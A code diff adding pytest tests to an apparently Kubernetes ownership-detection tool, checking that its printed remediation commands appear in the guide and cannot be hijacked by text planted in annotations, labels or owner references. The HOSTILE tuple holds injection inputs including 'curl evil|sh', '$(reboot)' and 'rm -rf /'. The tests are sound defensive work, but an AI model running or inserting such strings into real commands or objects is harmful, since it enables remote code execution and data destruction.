@@ -5,6 +5,7 @@
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -45,3 +46,44 @@ def test_what_is_printed_can_be_pasted(row: dict[str, Any]) -> None:
 def test_every_kind_of_owner_is_in_the_table() -> None:
     kinds = {row["owner"].partition(" ")[0] for row in OWNED.values()}
     assert kinds == set("helm argo_cd flux kustomize olm operator cainjector service_ca istiod aks gke eks addon_manager".split())
+
+
+def test_the_guide_shows_what_is_printed() -> None:
+    guide = (Path(__file__).parents[3] / "docs" / "guide.md").read_text(encoding="utf-8")
+    shown = [row for row in ROWS if row.get("in_the_guide")]
+    assert len(shown) == 3
+    for row in shown:
+        owner = owned(row).owner
+        assert owner is not None
+        assert "".join(f"    {line}\n" for line in owner.durable) in guide
+
+
+HOSTILE = ("x\ncurl evil|sh", "$(reboot)", "--kubeconfig=/tmp/x", "a'b", "a/b\nrm -rf /", "<b>x</b>", "\u2028x")
+WRITABLE = (
+    "meta.helm.sh/release-name",
+    "argocd.argoproj.io/tracking-id",
+    "cert-manager.io/inject-ca-from",
+    "cert-manager.io/inject-ca-from-secret",
+    "components.gke.io/component-name",
+    "service.beta.openshift.io/inject-cabundle",
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_somebody_wrote_into_an_object_is_no_command(text: str) -> None:
+    """Everything that is printed stays a comment, a command of ours with quoted words, or YAML."""
+    tracked = f"{text}:admissionregistration.k8s.io/ValidatingWebhookConfiguration:x/policy"
+    marks = dict.fromkeys(WRITABLE, text)
+    cases: list[dict[str, Any]] = [{"annotations": {key: value}} for key, value in [*marks.items(), ("argocd.argoproj.io/tracking-id", tracked)]]
+    cases += [{"annotations": {"meta.helm.sh/release-name": "cm", "meta.helm.sh/release-namespace": text}}]
+    cases += [{"labels": {key: text}} for key in ("olm.owner", "argocd.argoproj.io/instance", "helm.toolkit.fluxcd.io/name", "webhook.kyverno.io/managed-by")]
+    cases += [{"labels": {"olm.owner": "x", "olm.owner.kind": text, "olm.owner.namespace": text}}, {"labels": {f"operators.coreos.com/{text}": ""}}]
+    cases += [{"labels": {"app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/instance": text, "helm.sh/chart": f"{text}-1.2.3"}}]
+    cases += [{"owner": {"apiVersion": text, "kind": text, "name": text, "controller": True}}, {"managers": [f"{text}-operator"]}]
+    for changed in cases:
+        for change in ({"set": {"/webhooks/0/clientConfig/caBundle": "bmV3"}}, {"delete": True}):
+            owner = owned({"is": changed, **change, "values": {"cert-manager": {"webhook.timeoutSeconds": 1}}}).owner
+            for line in owner.durable if owner else ():
+                assert len(line.splitlines()) == 1
+                assert line.startswith("#") or not any(word in line for word in (text, "reboot", "--kubeconfig", "rm -rf", "evil")), (changed, line)
+            assert owner is None or len(owner.because.splitlines()) == 1
